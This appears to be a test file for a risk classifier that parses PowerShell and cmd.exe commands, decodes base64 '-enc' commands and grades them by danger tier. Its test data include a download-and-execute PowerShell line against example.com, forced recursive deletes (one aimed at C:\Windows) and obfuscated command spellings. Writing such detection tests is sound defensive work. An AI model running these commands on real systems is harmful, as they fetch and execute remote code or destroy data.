import { SLOW_WINDOWS, fill } from '../../bench/risk/slow-texts.ts';
import { classify } from '../../risk/classify.ts';
import { readCmd } from '../../risk/windows/cmd.ts';
import { decodeEncodedCommand } from '../../risk/windows/encoded-command.ts';
import { MAX_COMMANDS, type PlainCommand } from '../../risk/windows/plain-command.ts';
import { readPowerShell } from '../../risk/windows/powershell.ts';

const show = (commands: readonly PlainCommand[]): readonly string[] =>
  commands.map(({ words, piped }) => `${piped ? '| ' : ''}${words.map(({ text }) => text).join(' ')}`);

test.each([
  ['ri -rec -fo old', ['remove-item -rec -fo old']],
  ["Remove-Item 'C:\\a b' -Force; ls", ['Remove-Item C:\\a b -Force', 'get-childitem']],
  ['gci | ? { $_.Length -gt 1 } | del', ['get-childitem', '| where-object $value', '| remove-item']],
  ['$x = Get-Date; Write-Output $x', ['Get-Date', 'write-output $x'.replace('w', 'W').replace('-o', '-O')]],
  [
    'iex (New-Object Net.WebClient).DownloadString("http://example.com")',
    ['New-Object Net.WebClient', 'DownloadString http://example.com', 'invoke-expression $value'],
  ],
  ['[IO.File]::Delete("a.txt")', ['IO.File::Delete a.txt']],
  ['if (Test-Path a) { rm a }', ['Test-Path a', 'remove-item a']],
  ['Remove`-Item a # rm b', ['Remove-Item a']],
])('PowerShell: %s', (text, commands) => {
  expect(show(readPowerShell(text))).toEqual(commands);
});

test.each([
  ['del /f/s "C:\\a b"', ['del /f /s C:\\a b']],
  ['d^el a & rmdir /s /q b', ['del a', 'rd /s /q b']],
  ['if exist a del a', ['del a']],
  ['for %i in (*.txt) do erase %i', ['del %i']],
  ['dir | find "x"', ['dir', '| find x']],
])('cmd: %s', (text, commands) => {
  expect(show(readCmd(text))).toEqual(expect.arrayContaining(commands));
});

test('an encoded command is base64 over UTF-16', () => {
  expect(decodeEncodedCommand(Buffer.from('Get-Date', 'utf16le').toString('base64'))).toBe('Get-Date');
  expect(decodeEncodedCommand('not base64!')).toBeNull();
});

test('what an encoded command hides is judged, and hiding it is HIGH by itself', () => {
  const tierOf = (text: string): string =>
    classify(
      { action: { command: `powershell -enc ${Buffer.from(text, 'utf16le').toString('base64')}` } },
      { trustedNetworks: [] },
    ).tier;
  expect(tierOf('Get-Date')).toBe('HIGH');
  expect(tierOf('Remove-Item -Recurse -Force C:\\Windows')).toBe('CRITICAL');
});

test.each(SLOW_WINDOWS)(
  '64 KiB of %j are read, and no more commands taken from them than are judged',
  (unit) => {
    const text = fill(unit)(65_536);
    for (const read of [readPowerShell, readCmd]) expect(read(text).length).toBeLessThanOrEqual(MAX_COMMANDS);
  },
);
